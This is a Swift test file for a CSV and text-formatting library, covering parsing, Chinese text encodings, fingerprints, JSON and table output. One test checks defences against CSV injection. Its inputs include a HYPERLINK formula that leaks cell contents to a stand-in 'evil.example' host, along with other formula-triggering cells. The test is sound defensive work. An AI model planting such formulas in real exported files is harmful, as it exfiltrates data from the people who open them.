import Testing
@testable import Interchange

@Suite struct CSVReaderTests {
    func records(_ bytes: [UInt8]) throws -> [CSVRecord] {
        let path = Files.write(bytes)
        let facts = try FileFacts.examine(path: path, sizeMax: 1 << 30)
        let reader = try CSVReader(path: path, facts: facts)
        var result: [CSVRecord] = []
        while let record = try reader.next() { result.append(record) }
        return result
    }

    @Test func readsQuotedFieldsWithDelimitersQuotesAndLineBreaks() throws {
        let text = "a,b,c\r\n\"x, y\",\"say \"\"hi\"\"\",\"two\nlines\"\r\nplain,,end\n"
        let result = try records(Array(text.utf8))
        #expect(result.map(\.fields) == [["a", "b", "c"], ["x, y", "say \"hi\"", "two\nlines"], ["plain", "", "end"]])
        #expect(result.map(\.line) == [1, 2, 4])
    }

    @Test func skipsRowsExcelLeavesEmpty() throws {
        let result = try records(Array("a,b\n1,2\n,,\n\n3,4".utf8))
        #expect(result.map(\.fields) == [["a", "b"], ["1", "2"], ["3", "4"]])
        #expect(result.map(\.line) == [1, 2, 5])
    }

    @Test func takesTheDelimiterFromTheHeader() throws {
        #expect(try records(Array("a\tb\n1,5\t2\n".utf8)).map(\.fields) == [["a", "b"], ["1,5", "2"]])
        #expect(try records(Array("a;b\n1;2\n".utf8)).map(\.fields) == [["a", "b"], ["1", "2"]])
    }

    @Test func dropsAUTF8ByteOrderMark() throws {
        let result = try records([0xEF, 0xBB, 0xBF] + Array("客户编码,名称\nK1,甲\n".utf8))
        #expect(result.first?.fields == ["客户编码", "名称"])
    }

    @Test func readsGB18030AsExcelSavesIt() throws {
        let text = "客户编码,客户名称\nK00001,上海华盛机械有限公司\n"
        let bytes = Files.encode(text, as: "GB18030")
        let facts = try FileFacts.examine(path: Files.write(bytes), sizeMax: 1 << 30)
        #expect(facts.encoding == .gb18030)
        #expect(try records(bytes).map(\.fields) == [["客户编码", "客户名称"], ["K00001", "上海华盛机械有限公司"]])
    }

    @Test func readsUTF16UnicodeText() throws {
        let bytes: [UInt8] = [0xFF, 0xFE] + Files.encode("代码\t名称\nK1\t乙\n", as: "UTF-16LE")
        #expect(try records(bytes).map(\.fields) == [["代码", "名称"], ["K1", "乙"]])
    }

    @Test func multiByteCharactersAcrossChunkBoundariesSurvive() throws {
        // Enough rows that both the raw GB18030 and its UTF-8 cross the 1 MiB chunk border many times.
        var text = "code,name\n"
        for index in 0..<60_000 { text += "K\(index),华盛机械有限公司\(index)\n" }
        for encoding in ["GB18030", "UTF-8"] {
            let bytes = encoding == "UTF-8" ? Array(text.utf8) : Files.encode(text, as: encoding)
            let result = try records(bytes)
            #expect(result.count == 60_001)
            #expect(result[59_999].fields == ["K59998", "华盛机械有限公司59998"])
            #expect(result.allSatisfy { $0.fields.count == 2 })
        }
    }

    @Test func anUnclosedQuoteNamesItsLine() throws {
        #expect(throws: CSVError.self) { try records(Array("a,b\n1,2\n\"open,3\n".utf8)) }
        do {
            _ = try records(Array("a,b\n1,2\n\"open,3\n".utf8))
        } catch let error as CSVError {
            #expect(error.line == 3)
        }
    }

    @Test func theSameBytesHaveTheSameFingerprint() throws {
        let one = try FileFacts.examine(path: Files.write(Array("a\n1\n".utf8)), sizeMax: 100)
        let two = try FileFacts.examine(path: Files.write(Array("a\n1\n".utf8)), sizeMax: 100)
        let other = try FileFacts.examine(path: Files.write(Array("a\n2\n".utf8)), sizeMax: 100)
        #expect(one.fingerprint == two.fingerprint)
        #expect(one.fingerprint != other.fingerprint)
        #expect(one.fingerprint.count == 64)
    }

    @Test func filesOverTheLimitAreRefused() {
        #expect(throws: FileReadError.self) { try FileFacts.examine(path: Files.write(Array(repeating: 65, count: 200)), sizeMax: 100) }
    }
}

@Suite struct FormatTests {
    @Test func csvQuotesWhatExcelWouldMisread() {
        #expect(CSVWriter.line(["a", "b,c", "say \"x\"", "1\n2"]) == "a,\"b,c\",\"say \"\"x\"\"\",\"1\n2\"\r\n")
    }

    /// OWASP's rule for CSV injection: a text cell a spreadsheet would run as a formula gets a leading
    /// `'`; plain numbers (negative amounts) stay numbers.
    @Test(arguments: [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
        ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"), ("\r=1", "\"'\r=1\""),
        ("-12.30", "-12.30"), ("+5", "+5"), ("-", "'-"), ("-.5", "'-.5"), ("-1.", "'-1."), ("INV-1", "INV-1"), ("上海=", "上海="),
    ])
    func csvCellsCannotRunAsFormulas(value: String, written: String) {
        #expect(CSVWriter.field(value) == written)
    }

    @Test func jsonEscapesAndKeepsKeyOrder() {
        let value = JSONText.object([("z", .string("a\"b\\c\n")), ("a", .array([.int(1), .null, .bool(true)]))])
        #expect(value.render() == "{\"z\": \"a\\\"b\\\\c\\n\", \"a\": [1, null, true]}")
    }

    @Test func tablesLineUpChineseNames() {
        var table = TextTable(headers: ["name", "n"], alignments: [.left, .right])
        table.append(["上海", "1"])
        table.append(["abcd", "22"])
        let lines = table.render().split(separator: "\n")
        #expect(TextTable.displayWidth(String(lines[2])) == TextTable.displayWidth(String(lines[3])))
    }
}
